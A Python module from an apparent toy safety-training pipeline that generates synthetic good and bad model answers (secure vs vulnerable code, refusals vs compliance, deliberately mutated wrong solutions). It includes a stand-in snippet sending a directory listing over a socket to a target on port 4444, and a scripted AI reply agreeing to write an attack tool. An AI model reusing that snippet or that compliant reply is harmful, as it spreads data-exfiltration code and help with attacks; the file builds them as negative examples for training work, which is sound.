"""Answers the toy corpus puts in the base model's mouth: one builder per behaviour ("mode") and prompt set.

Every good mode is a well-formed `## Analysis` / `## Answer` response; every bad one is something the recipe's
oracles score 0 (vulnerable code the analyzer flags, a wrong solution, a refusal of a benign request, compliance
with a malicious one, or a format violation). The mode is visible early in the analysis, so that sampling at
temperature 1 explores it and a policy-gradient step can move it.
"""

from __future__ import annotations

import re

from purpcode.data.rules import Rule
from purpcode.oracles.format import ANSWER_HEADER

# Per prompt set: mode -> weight. Chosen so that the base model's most likely behaviour is a bad one for codesec,
# utility (format) and over-refusal, and a good one for malicious and secqa (imperfect in every dimension).
# Utility: the violation (the right code without the analysis) is the clear majority, so that the base model's
# greedy answer to a coding task fails the format gate on every seed (base format rate ~80%, utility reward ~0)
# while it still writes the right code; the recipe's format training then turns that code into reward. Wrong
# solutions stay rare: every wrong copy of a task's code is a copy the tiny model does not learn the right one from.
MIXTURES: dict[str, dict[str, float]] = {
    "codesec": {"secure": 0.35, "vulnerable": 0.45, "violation": 0.20},
    "utility": {"correct": 0.28, "incorrect": 0.07, "violation": 0.65},
    "malicious": {"refusal": 0.50, "compliance": 0.35, "violation": 0.15},
    "overrefusal": {"helpful": 0.40, "refusal": 0.45, "violation": 0.15},
    "secqa": {"helpful": 0.50, "refusal": 0.35, "violation": 0.15},
}
# Under rule learning's teacher prompt (policy, rules to avoid, reasoning steps) the base model behaves better: the
# toy version of why context distillation works. Rejection sampling then has good samples to keep.
TEACHER_MIXTURES: dict[str, dict[str, float]] = {
    "codesec": {"secure": 0.70, "vulnerable": 0.15, "violation": 0.15},
    "utility": {"correct": 0.85, "incorrect": 0.05, "violation": 0.10},
    "malicious": {"refusal": 0.80, "compliance": 0.10, "violation": 0.10},
    "overrefusal": {"helpful": 0.70, "refusal": 0.20, "violation": 0.10},
    "secqa": {"helpful": 0.75, "refusal": 0.15, "violation": 0.10},
}

REFUSAL = "I can't help with that request, because it could be used to attack systems."
# Not working malware: a stand-in the toy judge learns to call malicious (it only has to look like compliance).
_COMPLIANCE_CODE = (
    "import os\nimport socket\n\n\ndef run(target):\n    conn = socket.create_connection((target, 4444))\n"
    "    for name in os.listdir('.'):\n        conn.sendall(name.encode())\n    conn.close()\n"
)


def sections(analysis: str, answer: str) -> str:
    return f"## Analysis\n{analysis}\n## Answer\n{answer}"


def fenced(code: str) -> str:
    return f"```python\n{code.rstrip()}\n```"


def codesec_answer(mode: str, rule: Rule, vulnerable: str) -> str:
    """secure: the rule's safe code; vulnerable: the analyzer-confirmed seed code; violation: bare code."""
    if mode == "secure":
        return sections(
            f"Careful: this touches {rule.id} ({rule.name}), so the code must avoid it.",
            f"Here is a secure version:\n{fenced(rule.safe)}",
        )
    if mode == "vulnerable":
        return sections("Simple: a short script does this directly.", fenced(vulnerable))
    return fenced(vulnerable)


def mutate_solution(solution: str) -> str:
    """A plausible but wrong solution: the first number changed, else a comparison flipped, else no result."""
    m = re.search(r"(?<![\w.])(\d+)(?![\w.])", solution)
    if m:
        value = int(m.group(1))
        return solution[: m.start()] + str(value + 1) + solution[m.end() :]
    for a, b in (("<=", "<"), (">=", ">"), ("==", "!="), (" + ", " - ")):
        if a in solution:
            return solution.replace(a, b, 1)
    return re.sub(r"return .*", "return None", solution, count=1)


def utility_answer(mode: str, entry_point: str, solution: str) -> str:
    """correct / incorrect in the format (each with its own opening line, so the mode is chosen before the code and
    a policy-gradient step can move it), violation: the correct code under `## Answer` with the analysis skipped
    (the gate fails it). Why that violation: its code follows the same `## Answer` line as a formatted answer's, so
    the base model's code is one skill whichever way it starts, and learning the format does not cost it the code."""
    if mode == "violation":
        return f"{ANSWER_HEADER}\n{fenced(solution)}"
    if mode == "correct":
        return sections(f"Plan: implement `{entry_point}` in plain Python.", fenced(solution))
    return sections(f"Quick: a rough `{entry_point}`, untested.", fenced(mutate_solution(solution)))


def malicious_answer(mode: str, category: str) -> str:
    if mode == "refusal":
        return sections(
            f"Malicious: this asks for {category} against systems the user does not own, so I decline.",
            f"{REFUSAL} If you defend your own systems, I can explain how to detect and block {category}.",
        )
    if mode == "compliance":
        return sections(
            "Comply: the user wants a tool, so I will write it.",
            f"Sure, here it is:\n{fenced(_COMPLIANCE_CODE)}",
        )
    return REFUSAL


def helpful_answer(rule: Rule) -> str:
    """A helpful, safe answer to a benign security request (over-refusal probe or security question)."""
    return sections(
        f"Benign: the request is about {rule.id} ({rule.name}) in the user's own code, so I will help.",
        f"{rule.description} A safe way to write it:\n{fenced(rule.safe)}",
    )


def benign_answer(mode: str, rule: Rule) -> str:
    """overrefusal / secqa: helpful, an over-refusal, or a refusal without the format."""
    if mode == "helpful":
        return helpful_answer(rule)
    if mode == "refusal":
        return sections("Risky: the request mentions attacks, so it could be misused.", REFUSAL)
    return REFUSAL


def answer_part(response: str) -> str:
    """The text after `## Answer` (what the judge grades), or the whole response when it has no such section."""
    head, sep, tail = response.partition("## Answer\n")
    return tail if sep else head
